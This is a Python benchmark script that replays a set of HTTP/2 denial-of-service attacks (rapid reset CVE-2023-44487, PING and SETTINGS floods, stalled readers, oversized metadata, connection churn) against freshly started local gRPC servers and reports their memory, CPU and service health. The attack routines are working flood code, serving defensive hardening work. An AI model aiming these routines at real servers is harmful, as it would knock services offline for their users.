"""Replay issue 8's HTTP/2 attacks against greet (both engines), grpcio and grpc-go.

    python benchmarks/attacks.py [--scale 1.0] [--out benchmarks/ATTACKS.md]

Every attack of issue 8's table runs on loopback against a fresh server process: greet on each
HTTP/2 engine (`python -m greet.server --port 0 --http2-engine nghttp2|h2`), grpcio's asyncio
server (benchmarks/grpcio_server.py) and grpc-go (benchmarks/go_server/, skipped with a note when
Go is missing). Meanwhile a normal grpcio client makes one SayHello every 0.2 s on a connection of
its own. For each (attack, server) this records the server's RSS before, at its peak (sampled
every 50 ms) and after (once the attacker's connections are gone and RSS has settled, bounded),
the server's CPU seconds, what the attacker got back (GOAWAY, RST_STREAM codes, a closed or reset
connection) and how the normal calls fared. `--scale` shrinks every count for a quick run.

Writes a Markdown report (`--out`) and the same figures as JSON beside it (`.json`). Not a test:
it is run by hand, like benchmarks/compare.py. The raw HTTP/2 attacker is benchmarks/attack_peer.py.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import datetime
import json
import os
import platform
import shlex
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import grpc
from hpack import NeverIndexedHeaderTuple

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
sys.path.insert(0, str(HERE))

from attack_peer import (  # noqa: E402
    AttackPeer,
    Observed,
    data_frame,
    error_name,
    frame,
    grpc_message,
    names_list,
    ping_frame,
    request_headers,
    rst_stream_frame,
    settings_frame,
)
from compare import cpu_model, versions  # noqa: E402
from servers import (  # noqa: E402
    ENGINES,
    RunningServer,
    ServerSpec,
    build_go_server,
    go_spec,
    greet_spec,
    grpcio_spec,
)

SAY_HELLO = "/greet_service.GreetService/SayHello"
NORMAL_INTERVAL = 0.2  # seconds between the normal client's calls
NORMAL_DEADLINE = 2.0  # seconds each normal call may take
RSS_SAMPLE = 0.05  # seconds between RSS samples
RSS_BUDGET_MB = 64.0  # issue 8: RSS after the attack within 64 MB of before
MIN_NORMAL_CALLS = 3  # counted normal calls per run, however short the attack
MB = 1024.0
# Names per stalled server stream (attacks 5 and 8). Issue 8 used 100,000: the Python servers then
# spend tens of seconds filling buffers per round, which would take the full run far past 10
# minutes; 25,000 shows the same growth (or its absence) at a quarter of the size.
STALLED_NAMES = 25_000  # /proc reports KiB; the report gives MiB


# --------------------------------------------------------------------------------------------
# What runs beside an attack: the normal client, the RSS sampler, the server's connections


class NormalClient:
    """A grpcio channel making one SayHello every 0.2 s in a thread of its own."""

    def __init__(self, target: str) -> None:
        self.channel = grpc.insecure_channel(target)
        self.call: grpc.UnaryUnaryMultiCallable[bytes, bytes] = self.channel.unary_unary(SAY_HELLO)
        self.ok = 0
        self.failed: Counter[str] = Counter()
        self.counting = False
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def warm_up(self, timeout: float = 20.0) -> None:
        """One successful call (the channel connected), then start calling in the background."""
        self.call(b"", timeout=timeout, wait_for_ready=True)
        self.thread.start()

    def start_counting(self) -> None:
        self.counting = True

    @property
    def counted(self) -> int:
        return self.ok + sum(self.failed.values())

    async def wait_calls(self, count: int, timeout: float) -> None:
        """Until `count` calls were counted (so that a short attack still has some)."""
        deadline = time.monotonic() + timeout
        while self.counted < count:
            if time.monotonic() > deadline:
                return
            await asyncio.sleep(NORMAL_INTERVAL)

    def _run(self) -> None:
        while not self.stopped.wait(NORMAL_INTERVAL):
            try:
                self.call(b"", timeout=NORMAL_DEADLINE)
            except grpc.RpcError as error:
                if self.counting:
                    code = error.code() if isinstance(error, grpc.Call) else None
                    self.failed[code.name if code else "UNKNOWN"] += 1
            else:
                self.ok += self.counting

    def stop(self) -> None:
        self.stopped.set()
        if self.thread.is_alive():
            self.thread.join(NORMAL_DEADLINE + 5)
        self.channel.close()


class RssSampler:
    """The server's RSS every 50 ms in a thread; `peak_kib` is the largest seen."""

    def __init__(self, server: RunningServer) -> None:
        self.server = server
        self.peak_kib = server.memory_kib("VmRSS")
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.stopped.wait(RSS_SAMPLE):
            self.peak_kib = max(self.peak_kib, self.server.memory_kib("VmRSS"))

    def stop(self) -> None:
        self.stopped.set()
        self.thread.join()


def server_connections(port: int) -> int:
    """Accepted TCP connections on `port` the server may still hold (ESTABLISHED, CLOSE_WAIT)."""
    count = 0
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            for line in Path(table).read_text().splitlines()[1:]:
                fields = line.split()
                local_port = int(fields[1].rpartition(":")[2], 16)
                count += local_port == port and fields[3] in ("01", "08")
    return count


async def wait_connections(server: RunningServer, at_most: int, timeout: float) -> bool:
    """Until the server holds at most `at_most` connections; False after `timeout` seconds."""
    deadline = time.monotonic() + timeout
    while server_connections(server.port) > at_most:
        if time.monotonic() > deadline:
            return False
        await asyncio.sleep(0.05)
    return True


async def settled_rss_kib(server: RunningServer, timeout: float = 5.0) -> int:
    """RSS once it stops moving (three samples 0.25 s apart within 256 KiB), or at `timeout`."""
    deadline = time.monotonic() + timeout
    samples = [server.memory_kib("VmRSS")]
    while time.monotonic() < deadline:
        await asyncio.sleep(0.25)
        samples.append(server.memory_kib("VmRSS"))
        if len(samples) >= 3 and max(samples[-3:]) - min(samples[-3:]) < 256:
            break
    return samples[-1]


async def wait_server_idle(server: RunningServer, timeout: float) -> bool:
    """Until the server stops spending CPU (under 20 ms in 0.5 s); False after `timeout`."""
    deadline = time.monotonic() + timeout
    before = server.cpu_seconds()
    while time.monotonic() < deadline:
        await asyncio.sleep(0.5)
        now = server.cpu_seconds()
        if now - before < 0.02:
            return True
        before = now
    return False


# --------------------------------------------------------------------------------------------
# The attacks


@dataclass
class Context:
    """What an attack works with: the server, the scale and every connection it opened."""

    server: RunningServer
    scale: float
    peers: list[AttackPeer] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    extra: dict[str, Any] = field(default_factory=dict)  # attack-specific figures for the JSON

    @property
    def target(self) -> str:
        return self.server.target

    def count(self, full: int) -> int:
        return max(1, round(full * self.scale))

    async def connect(
        self, *, read: bool = True, settings: dict[int, int] | None = None
    ) -> AttackPeer:
        peer = await AttackPeer.connect(self.target, read=read, settings=settings)
        self.peers.append(peer)
        return peer


async def ping_round_trip(peer: AttackPeer, timeout: float) -> bool:
    """A PING and its ACK: the server has read everything written before it."""
    if peer.gone:
        return False
    wanted = peer.seen.ping_acks + 1
    peer.write(ping_frame(0x5EED))
    return await peer.drain(timeout) and await peer.wait_for(
        lambda: peer.seen.ping_acks >= wanted, timeout
    )


async def rapid_reset(ctx: Context) -> None:
    """4 connections x 20,000 HEADERS + RST_STREAM (CVE-2023-44487)."""
    per_connection = ctx.count(20_000)

    async def one() -> None:
        peer = await ctx.connect()
        sent = 0
        while sent < per_connection and not peer.gone:
            batch = []
            for _ in range(min(250, per_connection - sent)):
                stream_id = peer.new_stream()
                batch.append(peer.headers(stream_id, request_headers("SayHello")))
                batch.append(rst_stream_frame(stream_id))
            peer.write(b"".join(batch))
            sent += len(batch) // 2
            if not await peer.drain(10):
                break
        peer.seen.streams.clear()
        ctx.extra.setdefault("streams_reset", []).append(sent)
        await ping_round_trip(peer, 20)
        await peer.close()

    await asyncio.gather(*(one() for _ in range(4)))
    ctx.notes.append(f"{sum(ctx.extra['streams_reset'])} streams opened and reset")


async def ping_flood(ctx: Context) -> None:
    """100,000 PINGs from a client that reads nothing (then it reads what came)."""
    total = ctx.count(100_000)
    peer = await ctx.connect(read=False)
    sent = 0
    while sent < total and not peer.gone:
        batch = min(1000, total - sent)
        peer.write(b"".join(ping_frame(sent + i) for i in range(batch)))
        sent += batch
        if not await peer.drain(5):
            break
    peer.start_reading()
    await peer.wait_for(lambda: peer.seen.ping_acks >= sent, 20)
    ctx.notes.append(f"{sent} PINGs sent, {peer.seen.ping_acks} ACKs read afterwards")
    ctx.extra.update(pings_sent=sent, ping_acks=peer.seen.ping_acks)
    await peer.close()


async def settings_flood(ctx: Context) -> None:
    """100,000 SETTINGS frames (empty), read as they come."""
    total = ctx.count(100_000)
    peer = await ctx.connect()
    sent = 0
    while sent < total and not peer.gone:
        batch = min(2000, total - sent)
        peer.write(settings_frame() * batch)
        sent += batch
        if not await peer.drain(5):
            break
    await peer.wait_for(lambda: peer.seen.settings_acks > sent, 20)
    ctx.notes.append(f"{sent} SETTINGS sent, {peer.seen.settings_acks} ACKs")
    ctx.extra.update(settings_sent=sent, settings_acks=peer.seen.settings_acks)
    await peer.close()


def stream_outcome(peer: AttackPeer, stream_id: int) -> str:
    result = peer.seen.streams.get(stream_id)
    if result is not None and result.grpc_status is not None:
        shown = "served" if result.grpc_status == 0 else f"status {result.grpc_status}"
        return shown + (f" then RST {error_name(result.reset)}" if result.reset else "")
    if result is not None and result.reset is not None:
        return f"RST {error_name(result.reset)}"
    return "connection gone" if peer.gone else "no answer"


async def call(peer: AttackPeer, timeout: float = 10, **request: Any) -> str:
    """One SayHello (or `request`) on `peer`, waited for; how it ended."""
    if peer.gone:
        return "not sent (connection gone)"
    stream_id = peer.request(request.pop("method", "SayHello"), **request)
    await peer.drain(timeout)
    await peer.wait_for(lambda: peer.seen.streams[stream_id].ended, timeout)
    return stream_outcome(peer, stream_id)


async def unknown_frames(ctx: Context) -> None:
    """Frames of unknown types (1,000, types 0x20-0xef), then a unary call on the connection."""
    total = ctx.count(1000)
    peer = await ctx.connect()
    peer.write(b"".join(frame(0x20 + i % 0xD0, 0, 0, b"unknown!") for i in range(total)))
    await peer.drain(10)
    outcome = await call(peer)
    ctx.notes.append(f"{total} unknown frames, then SayHello on the same connection: {outcome}")
    ctx.extra.update(unknown_frames=total, call_after=outcome)
    await peer.close()


async def open_stalled_streams(ctx: Context, connections: int, streams: int, names: int) -> int:
    """`connections` x `streams` SayHelloServerStreaming calls of `names` names whose reader
    never opens its window; returns how many requests went out whole."""
    body = grpc_message(names_list(names))

    async def one(peer: AttackPeer) -> bool:
        stream_id = peer.new_stream()
        peer.write(peer.headers(stream_id, request_headers("SayHelloServerStreaming")))
        return await peer.send_data(stream_id, body, 20)

    peers = [await ctx.connect() for _ in range(connections)]
    sent = await asyncio.gather(*(one(peer) for peer in peers for _ in range(streams)))
    await wait_server_idle(ctx.server, 30)
    return sum(sent)


async def stalled_readers(ctx: Context) -> None:
    """12 server streams (4 connections x 3) of 25,000 names each (issue 8: 100,000; fewer to keep
    the whole run near 10 minutes), never read past the first window; then the connections
    close."""
    names = ctx.count(STALLED_NAMES)
    sent = await open_stalled_streams(ctx, 4, 3, names)
    received = sum(r.data_bytes for peer in ctx.peers for r in peer.seen.streams.values())
    ctx.notes.append(f"{sent}/12 requests of {names} names sent; {received} reply bytes let in")
    ctx.extra.update(names=names, requests_sent=sent, reply_bytes=received)
    for peer in ctx.peers:
        await peer.close()


async def big_metadata(ctx: Context) -> None:
    """4 calls carrying 1 MiB of metadata, one after the other, on two connections: 2 calls
    with one 1 MiB value, 2 calls with 256 values of 4 KiB; after them a normal call on each
    connection shows whether it survived."""
    shapes = {
        "one 1 MiB value": [NeverIndexedHeaderTuple("x-big", "a" * (1 << 20))],
        "256 x 4 KiB": [NeverIndexedHeaderTuple(f"x-big-{i}", "a" * 4096) for i in range(256)],
    }
    for shape, metadata in shapes.items():
        peer = await ctx.connect()
        await ping_round_trip(peer, 10)  # the server's SETTINGS (its header list limit) apply
        outcomes = [await call(peer, 15, extra=metadata) for _ in range(2)]
        survived = await call(peer)
        ctx.notes.append(f"{shape}: {', '.join(outcomes)}, then a normal call: {survived}")
        ctx.extra.setdefault("calls", []).extend(outcomes)
        ctx.extra.setdefault("normal_call_after", []).append(survived)
        await peer.close()


async def connection_churn(ctx: Context) -> None:
    """10,000 x (connect, start a call, reset the socket), 4 at a time: wall time."""
    total = ctx.count(10_000)
    answered = 0
    failed = 0
    started = time.monotonic()

    async def worker(count: int) -> None:
        nonlocal answered, failed
        for _ in range(count):
            try:
                peer = await AttackPeer.connect(ctx.target, read=False)
            except OSError:
                failed += 1
                continue
            peer.request("SayHello")
            first = b""
            with contextlib.suppress(asyncio.TimeoutError, ConnectionError, OSError):
                first = await asyncio.wait_for(peer.reader.read(1), 5)
            answered += bool(first)  # (not `+= await`: that would lose other workers' counts)
            peer.abort()

    await asyncio.gather(*(worker(total // 4 + (i < total % 4)) for i in range(4)))
    wall = time.monotonic() - started
    ctx.notes.append(
        f"{total} connections in {wall:.1f} s; the server answered {answered}, "
        f"{failed} connects failed"
    )
    ctx.extra.update(connections=total, wall_seconds=wall, answered=answered, failed=failed)


async def release_rounds(ctx: Context) -> None:
    """3 rounds of stalled server streams (4 connections x 3, 25,000 names each) then reset;
    then 20 fresh
    connections with one call each; RSS after each round and at the end."""
    names = ctx.count(STALLED_NAMES)
    rounds_mb = []
    for _ in range(3):
        await open_stalled_streams(ctx, 4, 3, names)
        for peer in ctx.peers:
            peer.abort()
        ctx.peers.clear()
        await wait_connections(ctx.server, 1, 15)
        rounds_mb.append(await settled_rss_kib(ctx.server) / MB)
    served = 0
    for _ in range(20):
        peer = await ctx.connect()
        served += await call(peer) == "served"
        await peer.close()
    end_mb = await settled_rss_kib(ctx.server) / MB
    shown = " / ".join(f"{mb:.0f}" for mb in rounds_mb)
    ctx.notes.append(
        f"RSS after each round {shown} -> {end_mb:.0f} MB; fresh calls served {served}/20"
    )
    ctx.extra.update(round_rss_mb=rounds_mb, end_rss_mb=end_mb, fresh_served=served)


async def stream_limit(ctx: Context) -> None:
    """4 connections x 1,000 SayHello streams opened at once."""
    per_connection = ctx.count(1000)
    summary: Counter[str] = Counter()
    limits = set()

    async def one() -> None:
        peer = await ctx.connect()
        ids = [peer.new_stream() for _ in range(per_connection)]
        await ping_round_trip(peer, 10)  # the server's SETTINGS are in
        limits.add(peer.server_settings.get(0x3))
        for stream_id in ids:
            peer.write(peer.headers(stream_id, request_headers("SayHello")))
            peer.write(data_frame(stream_id, grpc_message(), end_stream=True))
        await peer.drain(20)
        await peer.wait_for(lambda: all(peer.seen.streams[i].ended for i in ids), 30)
        summary.update(stream_outcome(peer, i) for i in ids)
        await peer.close()

    await asyncio.gather(*(one() for _ in range(4)))
    shown = ", ".join(f"{what} {n}" for what, n in summary.most_common())
    limit = " ".join(str(x) for x in limits) if limits != {None} else "none"
    ctx.notes.append(f"MAX_CONCURRENT_STREAMS {limit}; {4 * per_connection} calls: {shown}")
    ctx.extra.update(limit=sorted(x or 0 for x in limits), calls=dict(summary))


@dataclass(frozen=True)
class Attack:
    key: str
    title: str
    run: Callable[[Context], Awaitable[None]]


ATTACKS = (
    Attack("rapid-reset", "Rapid reset: 4 connections x 20,000 HEADERS + RST_STREAM", rapid_reset),
    Attack("ping-flood", "100,000 PINGs from a client that reads nothing", ping_flood),
    Attack("settings-flood", "100,000 SETTINGS frames", settings_flood),
    Attack("unknown-frames", "Frames of unknown types, then a unary call", unknown_frames),
    Attack("stalled-readers", "12 server streams of 25,000 names never read", stalled_readers),
    Attack("big-metadata", "4 calls carrying 1 MiB of metadata", big_metadata),
    Attack("churn", "10,000 x (connect, start a call, reset the socket)", connection_churn),
    Attack(
        "release", "3 rounds of stalled streams then reset, then 20 fresh calls", release_rounds
    ),
    Attack("stream-limit", "4 x 1,000 streams opened at once", stream_limit),
)


# --------------------------------------------------------------------------------------------
# One attack against one server


@dataclass
class Record:
    """The figures of one (attack, server) run."""

    attack: str
    server: str
    label: str
    command: str
    normal_ok: int = 0
    normal_failed: dict[str, int] = field(default_factory=dict)
    rss_before_mb: float = 0.0
    rss_peak_mb: float = 0.0
    rss_after_mb: float = 0.0
    cpu_seconds: float = 0.0
    observed: dict[str, Any] = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)
    extra: dict[str, Any] = field(default_factory=dict)
    connections_left: int = 0
    wall_seconds: float = 0.0  # the whole run: server start to stop
    problem: str = ""  # the attack hit its time limit, failed, or the server died
    verdict: str = ""

    @property
    def attacker(self) -> str:
        return "; ".join(part for part in [*self.notes, describe(self.observed)] if part)

    @property
    def reacted(self) -> bool:
        """GOAWAY, RST_STREAM, or an error status answering the attacker's own calls (issue 8
        accepts RESOURCE_EXHAUSTED for a call with oversized metadata as well as a reset)."""
        refused = any(
            str(outcome).startswith("status ") and outcome != "status 0"
            for outcome in self.extra.get("calls", [])
        )
        return bool(self.observed.get("goaway") or self.observed.get("rst_stream") or refused)


def merge(peers: Sequence[AttackPeer]) -> dict[str, Any]:
    """What the attacker's connections got, summed."""
    seen: list[Observed] = [peer.seen for peer in peers]
    goaways: Counter[str] = Counter()
    resets: Counter[str] = Counter()
    for observed in seen:
        if observed.goaway is not None:
            code, debug = observed.goaway
            text = debug.decode(errors="replace")
            goaways[error_name(code) + (f' "{text}"' if text else "")] += 1
        for code, count in observed.resets.items():
            resets[error_name(code)] += count
    return {
        "connections": len(seen),
        "goaway": dict(goaways),
        "rst_stream": dict(resets),
        "closed": sum(o.closed for o in seen),
        "reset": sum(o.reset_by_peer for o in seen),
        "write_blocked": sum(o.write_blocked for o in seen),
    }


def describe(observed: dict[str, Any]) -> str:
    total = observed.get("connections", 0)
    if not total:
        return ""
    parts = [f"GOAWAY {text} ({n}/{total} conns)" for text, n in observed["goaway"].items()]
    if observed["rst_stream"]:
        codes = ", ".join(f"{code} x{n}" for code, n in observed["rst_stream"].items())
        parts.append(f"RST_STREAM {codes}")
    for key, what in (("closed", "closed by server"), ("reset", "reset by server")):
        if observed[key]:
            parts.append(f"{what} {observed[key]}/{total}")
    if observed["write_blocked"]:
        parts.append(f"writes blocked on {observed['write_blocked']}/{total}")
    return "attacker got: " + (", ".join(parts) if parts else "nothing (no GOAWAY, RST or close)")


async def run_one(spec: ServerSpec, attack: Attack, scale: float, limit: float) -> Record:
    """A fresh server, the normal client, the attack, the settling; then the server is stopped."""
    record = Record(attack.key, spec.name, spec.label, spec.command(None))
    started = time.monotonic()
    server = RunningServer(spec, None)
    normal: NormalClient | None = None
    sampler: RssSampler | None = None
    ctx = Context(server, scale)
    try:
        normal = NormalClient(server.target)
        normal.warm_up()
        record.rss_before_mb = await settled_rss_kib(server) / MB
        sampler = RssSampler(server)
        cpu_before = server.cpu_seconds()
        normal.start_counting()
        try:
            await asyncio.wait_for(attack.run(ctx), limit)
        except asyncio.TimeoutError:
            record.problem = f"the attack was cut at its time limit ({limit:.0f} s)"
        except (ConnectionError, OSError) as error:
            record.problem = f"the attack failed: {error!r}"
        for peer in ctx.peers:
            if not peer.closing:
                peer.abort()
        if not await wait_connections(server, 1, 15):
            record.connections_left = server_connections(server.port) - 1
        await normal.wait_calls(MIN_NORMAL_CALLS, 5 * NORMAL_DEADLINE)
        normal.stop()
        record.normal_ok, record.normal_failed = normal.ok, dict(normal.failed)
        record.rss_after_mb = await settled_rss_kib(server) / MB
        record.cpu_seconds = server.cpu_seconds() - cpu_before
        sampler.stop()
        record.rss_peak_mb = max(sampler.peak_kib / MB, record.rss_after_mb)
        if (code := server.process.poll()) is not None:
            record.problem = f"the server exited with status {code}"
    finally:
        for peer in ctx.peers:
            peer.abort()
        if normal is not None:
            normal.stop()
        if sampler is not None:
            sampler.stop()
        server.stop()
    record.wall_seconds = time.monotonic() - started
    record.observed = merge(ctx.peers)
    record.notes, record.extra = ctx.notes, ctx.extra
    if record.connections_left > 0:
        record.notes.append(f"{record.connections_left} connections still open 15 s after")
    return record


# --------------------------------------------------------------------------------------------
# Verdicts (issue 8, "Done when", and the section 3 expectation where it names one)


def expectation(record: Record, grpcio: Record | None) -> list[str]:
    """What issue 8's section 3 expects of this attack beyond "Done when", where it is unmet."""
    extra, missed = record.extra, []
    if record.attack == "unknown-frames" and extra.get("call_after") != "served":
        missed.append(f"the call after the unknown frames: {extra.get('call_after')}")
    if record.attack == "big-metadata":
        if any(after != "served" for after in extra.get("normal_call_after", [])):
            missed.append("a connection did not survive the oversized calls")
        if any(outcome == "served" for outcome in extra.get("calls", [])):
            missed.append("an oversized call was served")
    if record.attack == "churn" and grpcio and record.cpu_seconds > grpcio.cpu_seconds:
        missed.append(
            f"churn cost {record.cpu_seconds:.1f} s CPU, grpcio {grpcio.cpu_seconds:.1f} s"
        )
    if record.attack == "release" and extra.get("fresh_served") != 20:
        missed.append(f"fresh calls served {extra.get('fresh_served')}/20")
    if record.attack == "stream-limit":
        calls: dict[str, int] = extra.get("calls", {})
        limit = max(extra.get("limit") or [0])
        total = sum(calls.values())
        within = min(limit or total, total // 4) * 4
        if calls.get("served", 0) < within:
            missed.append(f"{calls.get('served', 0)} calls served, {within} within the limit")
        others = {k: n for k, n in calls.items() if k not in ("served", "RST REFUSED_STREAM")}
        if others:
            missed.append(
                "calls over the limit got " + ", ".join(f"{k} {n}" for k, n in others.items())
            )
        if record.observed.get("closed") or record.observed.get("goaway"):
            missed.append("the connection was closed")
    return missed


def verdict(record: Record, grpcio: Record | None) -> str:
    failed = []
    if record.problem:
        failed.append(record.problem)
    bad = sum(record.normal_failed.values())
    if record.normal_ok == 0 or bad:
        failed.append(f"normal calls {record.normal_ok} ok / {bad} failed")
    growth = record.rss_after_mb - record.rss_before_mb
    if growth > RSS_BUDGET_MB:
        failed.append(f"RSS after is {growth:.0f} MB above before")
    if grpcio is not None and grpcio.reacted and not record.reacted:
        failed.append(
            "no GOAWAY, RST or error status where grpcio got " + describe(grpcio.observed)[14:]
        )
    text = "PASS" if not failed else "FAIL: " + "; ".join(failed)
    if grpcio is None:
        text += " (no grpcio row to compare the attacker's outcome with)"
    if missed := expectation(record, grpcio):
        text += " · issue 8 section 3 also expects better: " + "; ".join(missed)
    return text


def add_verdicts(records: Sequence[Record]) -> None:
    grpcio = {r.attack: r for r in records if r.server == "grpcio"}
    for record in records:
        if record.server.startswith("greet"):
            record.verdict = verdict(record, grpcio.get(record.attack))


# --------------------------------------------------------------------------------------------
# The report


def cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def machine() -> dict[str, Any]:
    found = versions()
    package = subprocess.run(
        ["dpkg-query", "-W", "-f=${Version}", "golang-google-grpc-dev"],
        capture_output=True,
        text=True,
        check=False,
    )
    if package.returncode == 0:
        found["golang-google-grpc-dev"] = package.stdout.strip()
    return {
        "nproc": os.cpu_count(),
        "cpu": cpu_model(),
        "python": platform.python_version(),
        "kernel": platform.release(),
        "versions": found,
    }


def render(records: Sequence[Record], header: dict[str, Any], attacks: Sequence[Attack]) -> str:
    info = header["machine"]
    shown = ("grpcio", "grpc-go", "golang-google-grpc-dev", "ngh2", "h2", "grpclib", "greet", "go")
    found = info["versions"]
    lines = [
        "# HTTP/2 attacks replayed against greet, grpcio and grpc-go",
        "",
        f"Produced by `{header['command']}` on {header['date']} (scale {header['scale']}).",
        "",
        f"Machine: {info['nproc']} CPUs ({info['cpu']}), Linux {info['kernel']}, "
        f"Python {info['python']}; "
        + ", ".join(f"{name} {found[name]}" for name in shown if name in found)
        + ".",
        "",
        "Each attack of issue 8's table runs on loopback against a fresh server process, while a "
        "grpcio client on another connection makes one SayHello every 0.2 s (2 s deadline). RSS "
        "(MB, VmRSS) is taken before, at its peak (sampled every 50 ms) and after the attacker "
        "left and the server dropped its connections (RSS settling bounded to 5 s); CPU is the "
        "server's user + system seconds from the attack's start to that point. Verdicts (greet "
        'rows) check issue 8\'s "Done when": normal calls kept succeeding, RSS after within '
        "64 MB of before, the attacker got GOAWAY or RST where grpcio did; where section 3 of "
        "the issue expects more of that attack, the verdict says so.",
        "",
    ]
    lines += [f"- {note}" for note in header["notes"]] + ([""] if header["notes"] else [])
    greet_servers = [s for s in header["servers"] if s.startswith("greet")]
    lines += ["## Summary", "", "| attack | " + " | ".join(greet_servers) + " |"]
    lines.append("|---" * (len(greet_servers) + 1) + "|")
    by_key = {(r.attack, r.server): r for r in records}
    for attack in attacks:
        verdicts = [by_key.get((attack.key, server)) for server in greet_servers]
        shown_verdicts = [
            v.verdict.split(":")[0].split(" ")[0] if v else "not run" for v in verdicts
        ]
        lines.append(f"| {attack.title} | " + " | ".join(shown_verdicts) + " |")
    lines.append("")
    for number, attack in enumerate(attacks, start=1):
        rows = [r for r in records if r.attack == attack.key]
        if not rows:
            continue
        lines += [
            f"## {number}. {attack.title}",
            "",
            " ".join((attack.run.__doc__ or "").split()),
            "",
        ]
        lines += [
            "| server | normal calls ok / failed | RSS before / peak / after (MB) "
            "| server CPU (s) | what the attacker got |",
            "|---|---|---|---|---|",
        ]
        for r in rows:
            failed = sum(r.normal_failed.values())
            statuses = ", ".join(f"{k} {n}" for k, n in r.normal_failed.items())
            calls = f"{r.normal_ok} / {failed}" + (f" ({statuses})" if statuses else "")
            rss = f"{r.rss_before_mb:.0f} / {r.rss_peak_mb:.0f} / {r.rss_after_mb:.0f}"
            got = r.attacker + (f"; **{r.problem}**" if r.problem else "")
            lines.append(f"| {r.label} | {calls} | {rss} | {r.cpu_seconds:.2f} | {cell(got)} |")
        lines.append("")
        lines += [f"- {r.label}: {r.verdict}" for r in rows if r.verdict]
        lines.append("")
    return "\n".join(lines)


# --------------------------------------------------------------------------------------------
# Main


def parse_args(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--scale", type=float, default=1.0, help="factor on every count")
    parser.add_argument("--out", type=Path, default=HERE / "ATTACKS.md", help="Markdown report")
    parser.add_argument(
        "--attacks", default=",".join(a.key for a in ATTACKS), help="comma-separated subset"
    )
    parser.add_argument(
        "--servers",
        default="greet-nghttp2,greet-h2,grpcio,grpc-go",
        help="comma-separated subset",
    )
    parser.add_argument(
        "--attack-timeout", type=float, default=120.0, help="seconds an attack may run"
    )
    args = parser.parse_args(argv)
    if not 0 < args.scale <= 1.0:
        parser.error("--scale must be in (0, 1]")
    known = {a.key for a in ATTACKS}
    if unknown := set(args.attacks.split(",")) - known:
        parser.error(f"unknown attacks {sorted(unknown)}; known: {sorted(known)}")
    return args


@contextlib.contextmanager
def go_server(wanted: bool, notes: list[str]) -> Iterator[ServerSpec | None]:
    """grpc-go's spec, built into a temporary directory (None, with a note, when it cannot be)."""
    if not wanted:
        yield None
        return
    with tempfile.TemporaryDirectory(prefix="greet-attacks-go-") as tmp:
        binary, why = build_go_server(Path(tmp))
        if binary is None:
            notes.append(f"grpc-go skipped: {why.splitlines()[-1] if why else 'no build'}")
            yield None
        else:
            yield go_spec(binary, pinned=False)


def main(argv: Sequence[str] | None = None) -> int:
    shown_argv = list(sys.argv[1:] if argv is None else argv)
    args = parse_args(argv)
    wanted = args.servers.split(",")
    attacks = [a for a in ATTACKS if a.key in args.attacks.split(",")]
    notes = [
        "Counts are issue 8's, except the stalled server streams of attacks 5 and 8: "
        f"{STALLED_NAMES:,} names each, not 100,000 (to keep the full run near 10 minutes)."
        + (f" Every count is scaled by {args.scale}." if args.scale != 1.0 else "")
    ]
    records: list[Record] = []
    with go_server("grpc-go" in wanted, notes) as go:
        specs = [greet_spec(engine) for engine in ENGINES] + [grpcio_spec()]
        specs += [go] if go is not None else []
        specs = [s for s in specs if s.name in wanted]
        try:
            for attack in attacks:
                for spec in specs:
                    print(f"{attack.key} against {spec.name} ...", file=sys.stderr, flush=True)
                    record = asyncio.run(run_one(spec, attack, args.scale, args.attack_timeout))
                    print(
                        f"  {record.wall_seconds:.1f} s: {record.attacker}",
                        file=sys.stderr,
                        flush=True,
                    )
                    records.append(record)
        except KeyboardInterrupt:
            notes.append("interrupted: only the runs above finished")
    add_verdicts(records)
    header = {
        "command": shlex.join(["python", "benchmarks/attacks.py", *shown_argv]),
        "date": datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d %H:%M UTC"),
        "scale": args.scale,
        "machine": machine(),
        "servers": [s.name for s in specs],
        "notes": notes,
    }
    args.out.write_text(render(records, header, attacks) + "\n")
    payload = {**header, "records": [{**asdict(r), "attacker": r.attacker} for r in records]}
    args.out.with_suffix(".json").write_text(json.dumps(payload, indent=2) + "\n")
    print(f"wrote {args.out} and {args.out.with_suffix('.json')}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
